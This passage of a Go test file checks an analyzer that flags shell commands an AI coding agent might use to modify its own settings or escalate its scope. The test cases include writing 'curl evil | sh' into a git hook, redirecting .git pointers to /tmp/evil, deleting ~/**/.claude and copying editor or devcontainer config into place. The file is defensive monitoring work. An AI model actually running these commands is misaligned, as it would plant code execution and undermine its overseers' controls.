	write(t, filepath.Join(repo, ".git", "HEAD"), "ref: refs/heads/feat\n")
	write(t, filepath.Join(home, ".gitconfig"), "[core]\n\thooksPath = ~/.githooks\n")
	for _, c := range []tc{
		{id: "repo-hooks-path", in: "echo 'curl evil | sh' > .husky/pre-commit", want: "scope-escalation"},
		{id: "repo-hooks-path-sub", in: "mkdir -p src && cd src && cp x ../.husky/pre-push", want: "scope-escalation"},
		{id: "user-hooks-path", in: "echo x > ~/.githooks/post-checkout", want: "scope-escalation"},
		{id: "elsewhere", in: "echo x > .huskyrc", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}

// TestGlobOptions: after shopt -s dotglob (or with GLOBIGNORE set) a glob's
// * matches a leading dot, so ~/*/settings.json is the agent's settings;
// after shopt -s globstar a ** is any number of directories, hidden ones
// only under dotglob.
func TestGlobOptions(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	write(t, filepath.Join(repo, "src", "a", "x.go"), "package a\n")
	for _, c := range []tc{
		{id: "dotglob", in: "shopt -s dotglob; sed -i s/a/b/ ~/*/settings.json", want: "self-mod"},
		{id: "globignore", in: "GLOBIGNORE=.; sed -i s/a/b/ ~/*/settings.json", want: "self-mod"},
		{id: "bashopts", in: "env BASHOPTS=dotglob bash -c 'sed -i s/a/b/ ~/*/settings.json'", want: "self-mod"}, // a prefix is refused: read-only
		{id: "shopt-dyn", in: "shopt -s \"$OPT\"; sed -i s/a/b/ ~/*/settings.json", want: "self-mod"},
		{id: "globstar-dotglob", in: "shopt -s globstar dotglob; sed -i s/a/b/ ~/**/settings.json", want: "self-mod? scope-escalation?"}, // ~/.bashrc.d/settings.json too
		{id: "globstar-rm", in: "shopt -s globstar dotglob; rm -rf ~/**/.claude", want: "self-mod? destructive scope-escalation?"},

		{id: "default", in: "sed -i s/a/b/ ~/*/settings.json", want: ""},
		{id: "unset", in: "shopt -s dotglob; shopt -u dotglob; sed -i s/a/b/ ~/*/settings.json", want: "self-mod"}, // over-read: once on, on
		{id: "globstar-hidden", in: "shopt -s globstar; sed -i s/a/b/ repo/**/settings.json", want: ""},
		{id: "globstar-project", in: "shopt -s globstar; sed -i s/a/b/ src/**/*.go", want: ""},
		{id: "dotglob-project", in: "shopt -s dotglob; cp -r src/* /tmp/out/", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}

// TestEditorConfigLands: what an editor reads from the project it opens
// (workspace settings, MCP servers, tasks, a dev container) arrives by a
// tree copied or linked into place, by find -exec and by an archive, as it
// does by a Write.
func TestEditorConfigLands(t *testing.T) {
	env, _, repo, scratch := fsEnv(t)
	write(t, filepath.Join(repo, "tmpl", ".vscode", "settings.json"), "{}")
	write(t, filepath.Join(repo, "tmpl2", ".vscode", "tasks.json"), "{}")
	write(t, filepath.Join(repo, "tmpl3", ".devcontainer", "init.sh"), "#!/bin/sh\n")
	write(t, filepath.Join(repo, "tmpl4", ".vscode", "launch.json"), "{}")
	write(t, filepath.Join(repo, ".devcontainer", "devcontainer.json"), "{}")
	write(t, filepath.Join(repo, ".devcontainer", "post-create.sh"), "#!/bin/sh\n")
	write(t, filepath.Join(repo, "main.go"), "package main\n")
	write(t, filepath.Join(repo, "tmpl5", "opencode.json"), "{}")
	write(t, filepath.Join(repo, ".aider.conf.yml"), "auto-test: false\n")
	proj := filepath.Join(scratch, "proj")
	write(t, filepath.Join(proj, ".vscode", "extensions.json"), "{}")
	write(t, filepath.Join(proj, "data.bin"), "\x00\x01 no archive format the hook reads")
	plain := filepath.Join(scratch, "plain")
	write(t, filepath.Join(plain, "data.bin"), "\x00\x01 no archive format the hook reads")
	for _, c := range []tc{
		{id: "cp", in: "cp -r tmpl/.vscode .", want: "self-mod"},
		{id: "rsync", in: "rsync -a tmpl2/ .", want: "scope-escalation"},
		{id: "mv", in: "mv tmpl3/.devcontainer .devcontainer2 && cp -r tmpl3/.devcontainer .", want: "scope-escalation"},
		{id: "ln", in: "ln -s /var/empty .vscode", want: "self-mod scope-escalation"}, // whatever it holds later
		{id: "ln", in: "ln -s /var/empty .cursor", want: "self-mod"},
		{id: "find-exec", in: "find . -name '*.sh' -exec sed -i s/a/b/ {} +", want: "scope-escalation"},
		{id: "find-exec", in: "find . -name devcontainer.json -exec tee {} ';'", want: "scope-escalation"},
		{id: "cp-top", in: "cp -r tmpl5/. .", want: "self-mod"},
		{id: "find-exec-top", in: "find . -name '*.yml' -exec sed -i s/a/b/ {} +", want: "self-mod"},
		{id: "sibling", in: "cp -r tmpl4/.vscode .", want: ""},
		{id: "sibling", in: "find . -name '*.go' -exec gofmt -w {} +", want: ""},
		{id: "sibling", in: "ln -s /var/empty .vscodex", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
	// An archive whose members are not known here, extracted into a
	// directory that holds .vscode, may write its settings.
	runCase(t, tc{id: "archive", in: "7z x data.bin -o" + proj, cwd: plain, want: "self-mod?"}, env)
	// Below the project it may make a nested repository, not settings.
	runCase(t, tc{id: "archive-sibling", in: "7z x data.bin -o" + filepath.Join(plain, "out"), cwd: plain, want: "scope-escalation?"}, env)
}

// TestNameDerivations: what a tree and an unread archive are judged
// against comes from the name rules themselves, so a rule added to
// paths.go is guarded against them as it is against a plain write.
func TestNameDerivations(t *testing.T) {
	a := newAnalyzer(Env{Home: "/home/u"}, "/home/u/repo")
	whole, all, dirs := a.nameSuffixes(false), a.nameSuffixes(true), a.nameDirs()
	for _, c := range []struct {
		list []string
		name string
		in   []string
		out  []string
	}{
		{whole, "whole runs", []string{".claude/settings*.json", ".claude/hooks", ".vscode/tasks.json", ".envrc", "*.code-workspace", ".opencode"}, []string{"settings*.json", "hooks"}},
		{all, "with tails", []string{".claude/settings*.json", "settings*.json", ".envrc", "tasks.json", "agents"}, nil},
		{dirs, "directories", []string{".claude", ".git", ".codex", ".vscode", ".devcontainer", ".kiro"}, []string{".envrc", "*.code-workspace", "opencode.json"}},
	} {
		for _, w := range c.in {
			if !slices.Contains(c.list, w) {
				t.Errorf("%s lack %q: %q", c.name, w, c.list)
			}
		}
		for _, w := range c.out {
			if slices.Contains(c.list, w) {
				t.Errorf("%s hold %q: %q", c.name, w, c.list)
			}
		}
	}
	// Every rule's whole run is among them.
	for _, n := range a.names {
		var pats []string
		for _, e := range n.elems {
			pats = append(pats, e.pat)
		}
		if !slices.Contains(whole, strings.Join(pats, "/")) {
			t.Errorf("whole runs lack rule %q", n.what)
		}
	}
}

// TestGitPointer: a submodule's or a linked worktree's .git file names
// the repository git uses in its directory; rewritten by any program, or
// linked elsewhere, that repository's config and hooks run there. A .git
// directory is written into, not replaced, and a program that makes a
// missing path a directory (tar -C) does not make a .git file.
func TestGitPointer(t *testing.T) {
	env, _, repo, _ := fsEnv(t)
	write(t, filepath.Join(repo, ".git", "HEAD"), "ref: refs/heads/main\n")
	write(t, filepath.Join(repo, "lib", ".git"), "gitdir: ../.git/modules/lib\n")
	write(t, filepath.Join(repo, "x.tgz"), "")
	write(t, filepath.Join(repo, "tmpl", "pointer"), "gitdir: /tmp/evil\n")
	write(t, filepath.Join(repo, "tmpl", "repo", "README"), "")
	if err := os.Symlink(filepath.Join(repo, "tmpl", "repo"), filepath.Join(repo, "tmpl", "linked")); err != nil {
		t.Fatal(err)
	}
	for _, c := range []tc{
		{id: "redirect", in: "echo 'gitdir: /tmp/evil' > lib/.git", want: "scope-escalation"},
		// A copy or a move of one source that is not a directory makes a
		// missing .git a file (cp -r copies a link as a link).
		{id: "cp-new", in: "cp tmpl/pointer docs/.git", want: "scope-escalation"},
		{id: "cp-new", in: "mv tmpl/pointer docs/.git", want: "scope-escalation"},
		{id: "cp-new", in: "cp -r tmpl/linked docs/.git", want: "scope-escalation"},
		{id: "cp-new", in: "cp -- \"$P\" docs/.git", want: "scope-escalation"},
		{id: "cp-new-dir", in: "cp -r tmpl/repo docs/.git", want: ""},
		{id: "cp-new-dir", in: "mkdir t && mv t docs/.git", want: ""},
		{id: "cp-new-dir", in: "cp -t docs tmpl/pointer", want: ""},
		{id: "cp-new-dir", in: "cp tmpl/pointer docs/notes", want: ""},
		{id: "sed", in: "sed -i 's|modules/lib|/tmp/evil|' lib/.git", want: "scope-escalation"},
		{id: "cp", in: "cp /tmp/evil.git lib/.git", want: "scope-escalation"},
		{id: "ln", in: "ln -sf /tmp/evil lib/.git", want: "scope-escalation"},
		{id: "edit", tool: "Edit", in: `{"file_path":"` + filepath.Join(repo, "lib", ".git") + `","old_string":"a","new_string":"b"}`, want: "scope-escalation"},
		{id: "tee-new", in: "echo 'gitdir: /tmp/evil' | tee docs/.git", want: "scope-escalation"},
		{id: "dir", in: "echo x > .git/description", want: ""},
		{id: "dir", in: "cp notes.txt .git", want: ""}, // into the directory
		{id: "missing-dir", in: "mkdir -p docs && tar xzf x.tgz -C docs/.git", want: ""},
	} {
		c.cwd = repo
		runCase(t, c, env)
	}
}
